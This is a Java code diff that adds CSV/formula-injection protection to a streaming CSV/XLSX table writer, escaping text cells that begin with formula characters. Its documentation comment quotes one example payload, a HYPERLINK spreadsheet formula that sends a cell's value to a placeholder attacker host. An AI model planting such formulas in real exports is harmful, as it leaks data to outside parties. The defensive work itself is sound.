@@ -13,7 +13,17 @@ import java.util.List;
 import org.dhatim.fastexcel.Workbook;
 import org.dhatim.fastexcel.Worksheet;
 
-/** Writes a table row by row to CSV or XLSX without holding it in memory. */
+/**
+ * Writes a table row by row to CSV or XLSX without holding it in memory.
+ * <p>
+ * Cells are inert (OWASP, "CSV injection"): a text that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab
+ * or a carriage return, such as an association named {@code =HYPERLINK("http://evil.example/?x="&A2,"ok")}, is written
+ * with a leading apostrophe, so that no spreadsheet evaluates it when the ministry opens the export. In XLSX every
+ * text is a string cell (a shared string: fastexcel writes a formula only through {@code Worksheet.formula}, never
+ * used here), which Excel never evaluates; the apostrophe is written there too, as part of the text, so that a user
+ * who saves the sheet again as CSV gets an inert file as well, and so that both formats show the same text.
+ * Numbers, dates and booleans are values, not text: written as they are ({@code -12.5} stays a number).
+ */
 interface TableWriter extends AutoCloseable {
 
     void row(List<?> values) throws IOException;
@@ -27,6 +37,17 @@ interface TableWriter extends AutoCloseable {
 
     static TableWriter xlsx(OutputStream out, String sheet, List<String> headers) throws IOException {
         return new Xlsx(out, sheet, headers);
+    }
+
+    /** The text, with an apostrophe in front if a spreadsheet would take it for a formula. */
+    static String inert(String text) {
+        if (text.isEmpty()) {
+            return text;
+        }
+        return switch (text.charAt(0)) {
+            case '=', '+', '-', '@', '\t', '\r' -> "'" + text;
+            default -> text;
+        };
     }
 
     /** RFC 4180 CSV, UTF-8 with a byte order mark (so that spreadsheet software reads accents), ';' separated for French locales. */
@@ -49,7 +70,7 @@ interface TableWriter extends AutoCloseable {
                 if (v == null) {
                     continue;
                 }
-                String s = v instanceof BigDecimal b ? b.toPlainString() : v.toString();
+                String s = v instanceof BigDecimal b ? b.toPlainString() : v instanceof Number ? v.toString() : inert(v.toString());
                 if (s.indexOf(';') >= 0 || s.indexOf('"') >= 0 || s.indexOf('\n') >= 0 || s.indexOf('\r') >= 0) {
                     s = '"' + s.replace("\"", "\"\"") + '"';
                 }
@@ -74,7 +95,7 @@ interface TableWriter extends AutoCloseable {
             wb = new Workbook(out, "Forsa", "1.0");
             ws = wb.newWorksheet(sheet);
             for (int c = 0; c < headers.size(); c++) {
-                ws.value(0, c, headers.get(c));
+                ws.value(0, c, inert(headers.get(c)));
                 ws.style(0, c).bold().set();
                 ws.width(c, Math.max(12, headers.get(c).length() + 2));
             }
@@ -102,7 +123,7 @@ interface TableWriter extends AutoCloseable {
                 } else if (v instanceof Boolean b) {
                     ws.value(r, c, b ? "oui" : "non");
                 } else {
-                    ws.value(r, c, v.toString());
+                    ws.value(r, c, inert(v.toString()));
                 }
             }
             if (++r % 500 == 0) {
